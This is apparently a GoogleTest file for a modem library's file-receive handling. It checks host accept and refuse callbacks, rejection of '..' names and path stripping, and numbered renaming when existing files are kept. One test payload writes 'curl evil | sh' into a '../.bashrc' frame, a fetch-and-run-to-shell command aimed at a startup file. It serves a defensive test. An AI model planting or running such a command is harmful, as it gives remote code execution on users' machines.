// What the host decides about received files: which to accept (OnFileAccept) and whether an
// existing file may be replaced (ReplaceFiles). A peer chooses every name, so these are the
// host's only say.
#include <gtest/gtest.h>

#include <stdexcept>
#include <tuple>

#include "support/call_fixture.h"

namespace quodem {
namespace {

using namespace calltest;
using FileError = Recorder::FileError;

constexpr char kRefused[] = "refused by the host";

class HostDecisionsTest : public CallFixture {};

TEST_F(HostDecisionsTest, AcceptIsAskedBeforeAnythingIsWrittenAndARefusalIsReported) {
  // What the handler was asked, and what the folder held at that moment. Written on the
  // reader worker before the events the test waits for.
  std::vector<std::tuple<std::string, DWORD, std::vector<std::string>>> asked;
  modem->SetOnFileAccept([&](TQuodem*, const std::string& name, DWORD size, bool& accept) {
    asked.emplace_back(name, accept ? size : 0, dir.Entries());  // Accept starts true
    if (name == "boom.txt") throw std::runtime_error("a host's bug");
    accept = name != "no.txt";
  });
  WriteFileBytes(dir / "no.txt", ToBytes("mine"));
  SendAndSync(Concat({FileFrame("../no.txt", Pattern(5000)), FileFrame("..", Pattern(10)),
                      FileFrame("boom.txt", Pattern(20)), FileFrame("yes.txt", Pattern(300))}),
              0);

  const std::vector<std::string> before = {"no.txt"};
  EXPECT_EQ((std::vector<std::tuple<std::string, DWORD, std::vector<std::string>>>{
                {"no.txt", 5000, before}, {"boom.txt", 20, before}, {"yes.txt", 300, before}}),
            asked);  // an unusable name is not asked about
  EXPECT_EQ((std::vector<FileError>{
                {"no.txt", kRefused}, {"..", "unusable name"}, {"boom.txt", kRefused}}),
            events->FileErrors());
  EXPECT_EQ(std::vector<std::string>{dir / "yes.txt"}, events->Files());
  EXPECT_EQ(ToBytes("mine"), ReadFileBytes(dir / "no.txt"));
  EXPECT_EQ((std::vector<std::string>{"no.txt", "yes.txt"}), dir.Entries());
  // A refused frame is still read to its end, with progress, so the next one is in step.
  const auto progress = events->Received();
  EXPECT_NE(progress.end(),
            std::find(progress.begin(), progress.end(), Recorder::Progress{5000, dcFile}));
}

TEST_F(HostDecisionsTest, KeepingFilesSavesUnderTheFirstFreeNumberedName) {
  modem->SetReplaceFiles(false);
  WriteFileBytes(dir / "report.pdf", ToBytes("original report"));
  WriteFileBytes(dir / "README", ToBytes("original readme"));
  WriteFileBytes(dir / ".bashrc", ToBytes("my shell"));
  ASSERT_TRUE(peer.Send(Concat(
      {FileFrame("report.pdf", Pattern(100, 1)), FileFrame("report.pdf", Pattern(100, 2)),
       FileFrame("README", Pattern(100, 3)), FileFrame("../.bashrc", ToBytes("curl evil | sh"))})));
  ASSERT_TRUE(events->WaitFiles(4));
  // OnFileReceive names the file as saved; the carried name stays what the frame said.
  EXPECT_EQ((std::vector<std::string>{dir / "report (1).pdf", dir / "report (2).pdf",
                                      dir / "README (1)", dir / ".bashrc (1)"}),
            events->Files());
  EXPECT_EQ(".bashrc", modem->RecvFileName());
  EXPECT_EQ(Pattern(100, 1), ReadFileBytes(dir / "report (1).pdf"));
  EXPECT_EQ(Pattern(100, 2), ReadFileBytes(dir / "report (2).pdf"));
  EXPECT_EQ(Pattern(100, 3), ReadFileBytes(dir / "README (1)"));
  EXPECT_EQ(ToBytes("original report"), ReadFileBytes(dir / "report.pdf"));
  EXPECT_EQ(ToBytes("original readme"), ReadFileBytes(dir / "README"));
  EXPECT_EQ(ToBytes("my shell"), ReadFileBytes(dir / ".bashrc"));
  EXPECT_TRUE(events->FileErrors().empty());

  // Back to replacing, as by default.
  modem->SetReplaceFiles(true);
  ASSERT_TRUE(peer.Send(FileFrame("report.pdf", Pattern(50, 4))));
  ASSERT_TRUE(events->WaitFiles(5));
  EXPECT_EQ(dir / "report.pdf", events->Files().back());
  EXPECT_EQ(Pattern(50, 4), ReadFileBytes(dir / "report.pdf"));
  EXPECT_EQ(7u, dir.Entries().size());
}

}  // namespace
}  // namespace quodem
